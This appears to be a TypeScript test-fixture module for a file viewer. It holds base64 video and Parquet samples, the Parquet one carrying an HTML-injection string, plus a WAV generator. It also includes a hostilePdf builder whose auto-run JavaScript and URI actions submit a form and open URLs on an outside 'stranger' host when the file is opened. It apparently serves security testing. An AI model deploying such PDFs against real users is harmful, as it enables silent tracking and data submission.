export const film = Buffer.from(
  "GkXfo59ChoEBQveBAULygQRC84EIQoKEd2VibUKHgQRChYECGFOAZwEAAAAAAATUEU2bdLlNu4tTq4QVSalmU6yBbk27i1OrhBZUrmtTrIGTTbuLU6uEH0O2dVOsgdRNu4xTq4QcU7trU6yCBMLsrg" +
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAVSalmoCrXsYMPQkBEiYREiXu2TYCGQ2hyb21lV0GGQ2hyb21lFlSua7yuuteBAXPFh4QL5ZTlkB+DgQFV7oEBhoVW" +
    "X1ZQOOCdsIEguoEgU8CBAVWwkFWxgQFVuYECVbqBDVW7gQEfQ7Z1AQAAAAAAA+LngQCg5KG5gQAAAJACAJ0BKiAAIAACRwiFhYiZhIgMggJ1qgIH+SJMIP74Qcv9izlsC8f/57R/89o/+e0f+eEAda" +
    "GmpqTugQGlnzACAJ0BKiAAIAAHBwiFhYiZhIgmAgAHkPPJwP7wXQCgy6GrgQBrANEBAAkQgAAYAB5X9AwAQQ4A/vnnA/+BO/+BO/+BO/8CdikORY49AHWhmKaW7oEBpZGxAQAcETwAGAAYWC/0AAhw" +
    "APuBAKDNoa2BAMgAEQIACRBUABgHSAggmfMNAEbBAP75Tz//CrcMQzVf/p9X6fV+n1f+nOB1oZimlu6BAaWRsQEAHBEsABgAGFgv9AAIcAD7gWugy6GrgQErANEBAAkQRAAYAB5X9AwAQQ4A/v1Rdv" +
    "/sM/7DP+wz/+wz/DOWFSw6sHWhmKaW7oEBpZGxAQAcERwAGAAYWC/0AAhwAPuByKDNoayBAY8A0QEACRA4ABgAHlf0DABBDgD++1Xj/ylXgsbo8//ceX7jy/ceX/uKAHWhmKaW7oEBpZGxAQAcEOwA" +
    "GAAYWC/0AAhwAPuCASugzqGtgQHzANEBAAkQMAAYAB5X9AwAQQ4A/v5mof/4C//AX/4C//8Bf/QbOtROtndAdaGYppbugQGlkbEBABwQ3AAYABhYL/QACHAA+4IBj6DQoa+BAlcA0QEACRAkABgAHl" +
    "f0DABBDgD+/aXv/6aR40jxpHzFv/6Pl/R8v6Pl/9G0AHWhmKaW7oEBpZGxAQAcEMAAGAAYWC/0AAhwAPuCAfOgzKGrgQK7ANEBAAkQdBRgAHlf0DABBDgA/vrv7/+QH/ID/kB//ID+B4fh4fhugHWh" +
    "mKaW7oEBpZGxAQAcEIgUYABhYL/QACHAAPuCAleg0aGwgQMfANEBAAkQHAAYAB5X9AwAQQ4A/v52+//sZv0Zv0Zv7AH/92Bf3YF/dgX/3VgAdaGYppbugQGlkbEBABwQtAAYABhYL/QACHAA+4ICu6" +
    "DUobOBA4MA8QEACRAYABgMUU+Q25RwQ3sA/v9POv/+7Av7sC/uwL/7sC/+2x/h4/xrgPMEpGB1oZimlu6BAaWRsQEAHBCgABgAGFgv9AAIcAD7ggMfoNWhtIED5wDRAQAJEBQAGAAqV/QMALXMAP7+" +
    "taF/+1ofVofVofy3f/+LCv4sK/iwr/4q6zY8eAB1oZimlu6BAaWRsQEAHBCMABgAGFgv9AAIcAD7ggODoM+hroEESwDRAQAJEBAAGAAeV/QMAEEOAP7/p3k//+evv89ff56+//PX3/8guWF1xGB1oZ" +
    "imlu6BAaWRsQEAHBB8ABgAGFgv9AAIcAD7ggPnHFO7a427i7OBALeG94EB8YHU",
  "base64"
)

export const parquet = Buffer.from(
  "UEFSMRUGFcQHFf4DXBV4FQAVeBUAFQQVAAAAeAHgAwQBAAEBCCAAAgEHDAAgAAMNCAAEDQgABQ0IAAYNCAAHDQgACA0IAAkNCAAKDQgACw0IAAwNCAANDQgADg0IAA8NCAAQDQgAEQ0IABINCAATDQ" +
    "gAFA0IABUNCAAWDQgAFw0IABgNCAAZDQgAGg0IABsNCAAcDQgAHQ0IAB4NCAAfDQgAIA0IACENCAAiDQgAIw0IACQNCAAlDQgAJg0IACcNCAAoDQgAKQ0IACoNCAArDQgALA0IAC0NCAAuDQgALw0I" +
    "ADANCAAxDQgAMg0IADMNCAA0DQgANQ0IADYNCAA3DQgAOA0IADkNCAA6DQgAOw0IHDwAAAAAACAAFQYVpAkVngRcFXgVAhV4FQAVCBUAAAAD/WgBzgRoBQAAAHJvdyAwDgAAADxiPmhvc3RpbGU8L2" +
    "I+ERsAMxEJADQRCQA1EQkANhEJADcRCQA4EQkEOQYNWgQxMBUKADEVCgAyFQoAMxUKADQVCgA1FQoANhUKADcVCgA4FQoAOREKADIVZAAyFWQAMhVkADIVZAAyFWQAMhVkADIVZAAyFWQAMhVkADIV" +
    "ZAAzFWQAMxVkADMVZAAzFWQAMxVkADMVZAAzFWQAMxVkADMVZAAzFWQANBVkADQVZAA0FWQENDMR8AA0FWQANBVkADQVZAA0FWQENDgVMhVkADUVZAA1FWQANRVkADUVZAA1FWQANRVkADUVZAA1FW" +
    "QsNTgGAAAAcm93IDU5FQYVxAcV7AVcFXgVABV4FQAVBBUAAAB4AeADLACo2nabAQAAAAQBfAUICGAngQUICLxNhgUICBh0iwUICHSakAUICNDAlQUICCznmgUICIgNoAUICOQzpQUICEBaqgUICJyA" +
    "rwUICPimtAUICFTNuQUICLDzvgUICAwaxAUICGhAyQUICMRmzgUICCCN0wUICHyz2AUICNjZ3QUICDQA4wUICJAm6AUIKOxM7ZsBAAAASHPyBQgIpJn3BQgIAMD8BQgMXOYBnAEgCLgMBwUICBQzDA" +
    "UICHBZEQUICMx/FgUICCimGwUICITMIAUICODyJQUICDwZKwUICJg/MAUICPRlNQUICFCMOgUICKyyPwUICAjZRAUICGT/SQUICMAlTwUICBxMVAUICHhyWQUICNSYXgUICDC/YwUICIzlaAUICOgL" +
    "bgUICEQycwUICKBYeAUICPx+fQUICFilggUICLTLhwUICBDyjAUICGwYkgUICMg+lwUICCRlnAUIOICLoZwBAAAA3LGmnAEAABUEGUxIBHJvb3QVBgAVBCUCGAJpZAAVDCUCGARuYW1lJQAAFQQlAh" +
    "gEd2hlbiUSABZ4GRwZPCYIHBUEGRUAGRgCaWQVAhZ4FvIHFqwEJgg8NgAoCDwAAAAAACAAGAgBAAAAAAAgAAAZHBUGFQAVAgAAACa0BBwVDBkVABkYBG5hbWUVAhZ4FtIJFswEJrQEPDYCKAVyb3cg" +
    "ORgOPGI+aG9zdGlsZTwvYj4AGRwVBhUAFQIAAAAmgAkcFQQZFQAZGAR3aGVuFQIWeBbyBxaaBiaACTw2ACgIANyxppwBAAAYCACo2nabAQAAABkcFQYVABUCAAAAFrYZFng2kg8AKAloeXBhcnF1ZX" +
    "QZPBwAABwAABwAAAAVAQAAUEFSMQ==",
  "base64"
)

export const silence = (seconds: number): Buffer => {
  const size = seconds * 8_000
  const file = Buffer.alloc(44 + size, 128)
  file.write("RIFF", 0, "latin1")
  file.writeUInt32LE(36 + size, 4)
  file.write("WAVEfmt ", 8, "latin1")
  file.writeUInt32LE(16, 16)
  file.writeUInt16LE(1, 20)
  file.writeUInt16LE(1, 22)
  file.writeUInt32LE(8_000, 24)
  file.writeUInt32LE(8_000, 28)
  file.writeUInt16LE(1, 32)
  file.writeUInt16LE(8, 34)
  file.write("data", 36, "latin1")
  file.writeUInt32LE(size, 40)
  return file
}

export const hostilePdf = (pages: number, stranger: string): Buffer => {
  const objects: Array<string> = []
  const add = (body: string) => objects.push(body)
  const first = 6
  add("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(go) 4 0 R] >> >> >>")
  add(
    `<< /Type /Pages /Count ${pages} /Kids ` +
      `[${Array.from({ length: pages }, (_, at) => `${first + at * 2} 0 R`).join(" ")}] >>`
  )
  add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
  add(
    `<< /S /JavaScript /JS (app.alert\\("taken"\\); this.submitForm\\("${stranger}/form"\\); ` +
      `app.launchURL\\("${stranger}/launched"\\);) /Next << /S /URI /URI (${stranger}/opened) >> >>`
  )
  add(`<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (${stranger}/pressed) >> >>`)
  for (let page = 1; page <= pages; page++) {
    const drawn = `0.8 0.1 0.1 rg 0 0 150 150 re f 0 g BT /F1 24 Tf 20 250 Td (Word ${page}) Tj ET`
    add(
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Resources << /Font << /F1 3 0 R >> >> /Contents " +
        `${first + page * 2 - 1} 0 R /Annots [5 0 R] /AA << /O 4 0 R >> >>`
    )
    add(`<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`)
  }
  let text = "%PDF-1.7\n"
  const places = objects.map((body, at) => {
    const place = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return place
  })
  const table = text.length
  text +=
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f ` +
    `\n${places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("")}`
  return Buffer.from(
    `${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`,
    "latin1"
  )
}
